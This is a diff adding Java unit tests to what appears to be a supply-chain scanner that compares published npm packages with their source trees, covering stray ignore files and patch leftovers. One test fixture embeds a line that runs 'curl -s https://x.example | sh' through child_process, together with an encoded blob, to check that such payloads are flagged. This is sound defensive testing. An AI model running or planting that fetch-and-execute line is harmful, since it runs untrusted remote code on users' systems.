@@ -939,6 +939,124 @@ class NpmScanTest {
         assertFalse(n.status() == FileStatus.GENERATED || n.status() == FileStatus.MATCH_NORMALIZED, n.toString());
     }
 
+    /**
+     * What fstream-npm (npm 1.1 to 4) packs from a working tree: every {@code .gitignore} is written as
+     * {@code .npmignore}, and dropped where the folder has its own {@code .npmignore}.
+     */
+    private static SortedMap<String, byte[]> packedByFstreamNpm(SortedMap<String, byte[]> workingTree) {
+        SortedMap<String, byte[]> out = new java.util.TreeMap<>();
+        workingTree.forEach((path, bytes) -> {
+            int slash = path.lastIndexOf('/');
+            String folder = path.substring(0, slash + 1);
+            if (path.substring(slash + 1).equals(".gitignore")) {
+                if (!workingTree.containsKey(folder + ".npmignore")) {
+                    out.put(folder + ".npmignore", bytes);
+                }
+            } else {
+                out.put(path, bytes);
+            }
+        });
+        return out;
+    }
+
+    private static final String UNTRACKED_IGNORE = "node_modules/\nnpm-debug.log"; // mkdirp 0.3.1-0.5.0, no final newline
+
+    @Test
+    void anUntrackedGitignorePackedAsNpmignoreIsGeneratedIgnoreRules() throws Exception {
+        // mkdirp 0.3.4: the publisher's .gitignore was never committed; fstream-npm shipped it as package/.npmignore
+        SortedMap<String, byte[]> tree = files("package.json", pkgJson("widget", "4.2.0", ""),
+                "index.js", "module.exports = 1;\n", "cli.js", "require('./index');\n");
+        ArtifactReport a = publishAndScan(tree, "4.2.0",
+                packedByFstreamNpm(with(tree, ".gitignore", UNTRACKED_IGNORE)));
+        FileDivergence n = row(a, "package/.npmignore");
+        assertEquals(FileStatus.GENERATED, n.status(), n.toString());
+        assertEquals(NpmGeneratedFiles.IGNORE_FILE_UNTRACKED, n.ruleId());
+        assertEquals(Verdict.EXPLAINED, a.verdict());
+    }
+
+    @Test
+    void anUntrackedGitignoreShippedUnderItsOwnNameIsGeneratedIgnoreRules() throws Exception {
+        // npm 1.0 (mkdirp 0.0.7-0.3.0) packed the working tree's .gitignore as it was
+        SortedMap<String, byte[]> tree = files("package.json", pkgJson("widget", "4.2.1", ""),
+                "index.js", "module.exports = 1;\n", "cli.js", "require('./index');\n");
+        ArtifactReport a = publishAndScan(tree, "4.2.1",
+                with(tree, ".gitignore", "# deps\r\nnode_modules/\r\n!lib/*.py[cod]\r\n\r\n"));
+        FileDivergence n = row(a, "package/.gitignore");
+        assertEquals(FileStatus.GENERATED, n.status(), n.toString());
+        assertEquals(NpmGeneratedFiles.IGNORE_FILE_UNTRACKED, n.ruleId());
+        assertEquals(Verdict.EXPLAINED, a.verdict());
+    }
+
+    private static final String BLOB = "QmFzZTY0IHBheWxvYWQgdGhhdCBpcyBub3QgYSBmaWxlIG5hbWUgYXQgYWxs";
+
+    /** Payloads in the rule's slack: code, an encoded blob shaped as a pattern or a comment, past the size bound. */
+    static java.util.stream.Stream<String> ignoreFileSlack() {
+        return java.util.stream.Stream.of(
+                UNTRACKED_IGNORE + "\nrequire('child_process').execSync('curl -s https://x.example | sh')\n",
+                UNTRACKED_IGNORE + "\n" + BLOB + "\n",
+                UNTRACKED_IGNORE + "\n# " + BLOB + "\n",
+                UNTRACKED_IGNORE + "\n" + "lib/x\n".repeat(NpmIgnoreFiles.MAX_BYTES / 6 + 1));
+    }
+
+    @org.junit.jupiter.params.ParameterizedTest
+    @org.junit.jupiter.params.provider.MethodSource("ignoreFileSlack")
+    void anUntrackedIgnoreFileCarryingAnythingButIgnoreRulesStaysVisible(String content) throws Exception {
+        SortedMap<String, byte[]> tree = files("package.json", pkgJson("widget", "4.3.0", ""),
+                "index.js", "module.exports = 1;\n", "cli.js", "require('./index');\n");
+        ArtifactReport a = publishAndScan(tree, "4.3.0", packedByFstreamNpm(with(tree, ".gitignore", content)));
+        FileDivergence n = row(a, "package/.npmignore");
+        assertEquals(FileStatus.PHANTOM, n.status(), n.toString());
+        assertEquals(Classifier.UNEXPLAINED, n.ruleId());
+        assertEquals(Verdict.DIVERGENT, a.verdict());
+    }
+
+    @Test
+    void ignoreRulesTheManifestRunsOrInASubfolderAreNotExplainedAsIgnoreRules() throws Exception {
+        // a bin target runs whatever its name; only the package root's ignore file is modelled
+        SortedMap<String, byte[]> tree = files("package.json", "{\n  \"name\": \"widget\",\n  \"version\": \"4.4.0\",\n"
+                + "  \"bin\": \".npmignore\",\n  \"repository\": \"github:acme/widget\"\n}\n",
+                "index.js", "module.exports = 1;\n");
+        ArtifactReport a = publishAndScan(tree, "4.4.0",
+                packedByFstreamNpm(with(tree, ".gitignore", UNTRACKED_IGNORE, "lib/.gitignore", UNTRACKED_IGNORE)));
+        FileDivergence main = row(a, "package/.npmignore");
+        assertEquals(FileStatus.PHANTOM, main.status(), main.toString());
+        assertEquals(Classifier.UNEXPLAINED, main.ruleId());
+        assertTrue(main.highRisk(), main.toString());
+        FileDivergence sub = row(a, "package/lib/.npmignore");
+        assertEquals(FileStatus.PHANTOM, sub.status(), sub.toString());
+        assertEquals(Classifier.UNEXPLAINED, sub.ruleId());
+    }
+
+    @Test
+    void patchLeftoversAreAccidentalJunkUnlessTheManifestRunsThem() throws Exception {
+        // mkdirp 0.0.7: patch(1) left examples/pow.js.orig (the file before the patch) and .rej (its rejected hunk)
+        String before = "var mkdirp = require('mkdirp').mkdirp;\n";
+        SortedMap<String, byte[]> tree = files("package.json", pkgJson("widget", "4.5.0", ""),
+                "index.js", "module.exports = 1;\n", "cli.js", "require('./index');\n",
+                "examples/pow.js", "var mkdirp = require('../').mkdirp;\n");
+        ArtifactReport a = publishAndScan(tree, "4.5.0", with(tree, "examples/pow.js.orig", before,
+                "examples/pow.js.rej", "--- examples/pow.js\n+++ examples/pow.js\n@@ -1 +1 @@\n-" + before
+                        + "+var mkdirp = require('../').mkdirp;\n"));
+        for (String p : List.of("package/examples/pow.js.orig", "package/examples/pow.js.rej")) {
+            FileDivergence junk = row(a, p);
+            assertEquals(FileStatus.PHANTOM, junk.status(), p);
+            assertEquals(NpmGeneratedFiles.ACCIDENTAL_JUNK, junk.ruleId(), p);
+            assertFalse(junk.highRisk(), p);
+        }
+        assertEquals(Verdict.DIVERGENT, a.verdict());
+    }
+
+    @Test
+    void aPatchLeftoverTheManifestRunsStaysHighRisk() throws Exception {
+        SortedMap<String, byte[]> tree = files("package.json", "{\n  \"name\": \"widget\",\n  \"version\": \"4.6.0\",\n"
+                + "  \"bin\": \"index.js.orig\",\n  \"repository\": \"github:acme/widget\"\n}\n",
+                "index.js", "module.exports = 1;\n");
+        ArtifactReport a = publishAndScan(tree, "4.6.0", with(tree, "index.js.orig", "module.exports = 2;\n"));
+        FileDivergence orig = row(a, "package/index.js.orig");
+        assertTrue(orig.highRisk(), orig.toString());
+        assertEquals(Verdict.HIGH_RISK, a.verdict());
+    }
+
     @Test
     void thePrivateMarkRemovedAtPublishIsExplainedAndNothingElseRidesOnIt() throws Exception {
         // npm refuses to publish "private": true, so a source marked private is published by a build removing it.
